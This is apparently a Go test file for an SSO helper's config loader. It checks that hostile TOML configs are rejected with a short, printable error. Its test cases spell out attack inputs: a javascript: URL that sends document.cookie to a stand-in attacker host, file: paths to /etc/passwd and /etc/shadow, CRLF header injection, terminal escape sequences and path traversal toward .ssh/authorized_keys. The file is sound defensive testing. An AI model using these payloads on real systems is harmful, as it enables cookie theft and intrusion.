//go:build unix

package config_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"github.com/ssohelper/ssohelper/auth/config"
)

// TestAttackConfig proves that a hostile config file is refused whole,
// quickly and with a printable message: script, file and data URLs,
// plain http to another host, credentials in URLs, line breaks, NUL,
// escape sequences and bidirectional overrides in values, huge and deeply
// nested arrays, path traversal and NUL in profile names, and a config
// path that is a device, a FIFO, a directory or a huge file.
func TestAttackConfig(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo.toml")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	zeroLink := filepath.Join(dir, "zero.toml")
	if err := os.Symlink("/dev/zero", zeroLink); err != nil {
		t.Fatal(err)
	}
	// profile is a valid profile with extra lines in its table; set
	// replaces a whole line "key = value" of it.
	profile := func(extra string, set ...string) string {
		doc := "[profiles.work]\nissuer = \"https://login.example.com\"\nclient_id = \"abc\"\n" + extra + "\n[profiles.work.platform]\nkind = \"none\"\n"
		for i := 0; i+1 < len(set); i += 2 {
			doc = strings.Replace(doc, set[i], set[i+1], 1)
		}
		return doc
	}
	tests := []struct {
		name   string
		doc    string // the user's config file; ignored when path is set
		path   string // a config path to load instead of doc
		system string // a system config path to load with it
		pick   string
		wantIs error
		want   string // in the message
	}{
		{name: "javascript: issuer", doc: profile("", `issuer = "https://login.example.com"`, `issuer = "javascript:alert(1)"`), want: "issuer"},
		{name: "file: issuer", doc: profile("", `issuer = "https://login.example.com"`, `issuer = "file:///etc/passwd"`), want: "not an absolute URL"},
		{name: "javascript: authorization endpoint", doc: profile("[profiles.work.endpoints]\nauthorization = \"javascript:fetch('//evil.example/'+document.cookie)\"\ntoken = \"https://login.example.com/token\"\njwks = \"https://login.example.com/jwks\""),
			want: "endpoints.authorization"},
		{name: "data: JWKS", doc: profile("[profiles.work.endpoints]\nauthorization = \"https://login.example.com/a\"\ntoken = \"https://login.example.com/token\"\njwks = \"data:application/json,{\\\"keys\\\":[]}\""),
			want: "endpoints.jwks"},
		{name: "file: platform", doc: profile("", "kind = \"none\"", "kind = \"encodify\"\nbase_url = \"file:///etc/shadow\"\nsite_id = \"36\"\nidp = \"cognito\"\nclient_app_id = \"app\""),
			want: "platform.base_url"},
		{name: "javascript: sign-out URL", doc: profile(`logout_uri = "javascript:alert(1)//localhost:1/x"`), want: "logout_uri"},
		{name: "plain http to another host", doc: profile("", `issuer = "https://login.example.com"`, `issuer = "http://login.example.com"`), want: "uses plain http"},
		{name: "credentials in a URL", doc: profile("[profiles.work.endpoints]\nauthorization = \"https://login.example.com/a\"\ntoken = \"https://admin:hunter2@login.example.com/token\"\njwks = \"https://login.example.com/jwks\""),
			want: "user name or password"},
		{name: "CRLF in the client id", doc: profile("", `client_id = "abc"`, `client_id = "abc\r\nX-Injected: 1"`), want: "client_id"},
		{name: "NUL in the callback path", doc: profile(`callback_path = "/callback\u0000.html"`), want: "callback_path"},
		{name: "escape sequence in a scope", doc: profile(`scopes = ["openid", "\u001b]0;pwned\u0007"]`), want: "scopes"},
		{name: "bare CR in a scope", doc: profile(`scopes = ["openid", "email\rprofile"]`), want: "scopes"},
		{name: "CRLF in a file path", doc: profile(`ca_file = "/etc/ssl/company.pem\r\n"`), want: "ca_file"},
		{name: "right-to-left override in the issuer", doc: profile("", `issuer = "https://login.example.com"`, `issuer = "https://login.example.com/\u202emoc.live"`), want: "issuer"},
		{name: "a huge array of scopes", doc: profile(`scopes = ["openid"` + strings.Repeat(`, "aws.cognito.signin.user.admin"`, 30000) + `]`), want: "scopes"},
		{name: "a huge array of ports", doc: profile(`redirect_ports = [` + strings.TrimSuffix(strings.Repeat("43110, ", 20000), ", ") + `]`), want: "redirect_ports"},
		{name: "deeply nested arrays", doc: profile(`scopes = ` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000)), want: "nested more than the maximum"},
		{name: "path traversal in a profile name", doc: "[profiles.\"../../.ssh/authorized_keys\"]\nissuer = \"https://login.example.com\"\nclient_id = \"abc\"\n[profiles.\"../../.ssh/authorized_keys\".platform]\nkind = \"none\"\n",
			want: "profile name"},
		{name: "NUL in a profile name", doc: "[profiles.\"work\\u0000evil\"]\nissuer = \"https://login.example.com\"\nclient_id = \"abc\"\n[profiles.\"work\\u0000evil\".platform]\nkind = \"none\"\n",
			want: "profile name"},
		{name: "escape sequences in a profile name", doc: "[profiles.\"\\u001b]0;pwned\\u0007\\u001b[31mwork\"]\nissuer = \"https://login.example.com\"\nclient_id = \"abc\"\n[profiles.\"\\u001b]0;pwned\\u0007\\u001b[31mwork\".platform]\nkind = \"none\"\n",
			want: "profile name"},
		{name: "path traversal in default_profile", doc: "default_profile = \"../../etc/passwd\"\n" + profile(""), want: "default_profile"},
		{name: "selecting a profile by a traversal name", doc: profile(""), pick: "../work", wantIs: config.ErrUnknownProfile, want: "unknown profile"},
		{name: "selecting a profile by a name with NUL", doc: profile(""), pick: "work\x00", wantIs: config.ErrUnknownProfile, want: "unknown profile"},
		{name: "the config is /dev/zero", path: "/dev/zero", want: "is not a regular file (a device)"},
		{name: "the config is a symlink to /dev/zero", path: zeroLink, want: "is not a regular file (a device)"},
		{name: "the config is a FIFO", path: fifo, want: "is not a regular file (a FIFO)"},
		{name: "the system config is a FIFO", system: fifo, want: "is not a regular file (a FIFO)"},
		{name: "the config is a directory", path: dir, want: "is not a regular file (a directory)"},
		{name: "the config is huge", doc: profile(strings.Repeat("# padding padding padding\n", (config.MaxFileSize/26)+1)), want: "larger than"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := tt.path
			if path == "" {
				path = filepath.Join(t.TempDir(), "config.toml")
				if err := os.WriteFile(path, []byte(tt.doc), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			var system []string
			if tt.system != "" {
				system = []string{tt.system}
			}
			done := make(chan error, 1)
			go func() { // a FIFO or device must not hang the test: it is bounded below
				f, err := config.LoadMerged(system, path)
				if err == nil {
					_, err = f.Profile(tt.pick)
				}
				done <- err
			}()
			var err error
			select {
			case err = <-done:
			case <-time.After(time.Minute):
				t.Fatal("loading the config hangs")
			}
			wantIs := tt.wantIs
			if wantIs == nil {
				wantIs = config.ErrInvalid
			}
			if !errors.Is(err, wantIs) {
				t.Fatalf("got %v; want an error wrapping %v", err, wantIs)
			}
			msg := err.Error()
			if !strings.Contains(msg, tt.want) {
				t.Errorf("got %q; want it to mention %q", short(msg), tt.want)
			}
			if len(msg) > 4<<10 {
				t.Errorf("the message is %d bytes long; want it short", len(msg))
			}
			for _, r := range msg {
				if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
					t.Errorf("the message carries %U: %q", r, short(msg))
					break
				}
			}
		})
	}
}

func short(s string) string {
	if len(s) > 300 {
		return fmt.Sprintf("%s... (%d bytes)", s[:300], len(s))
	}
	return s
}
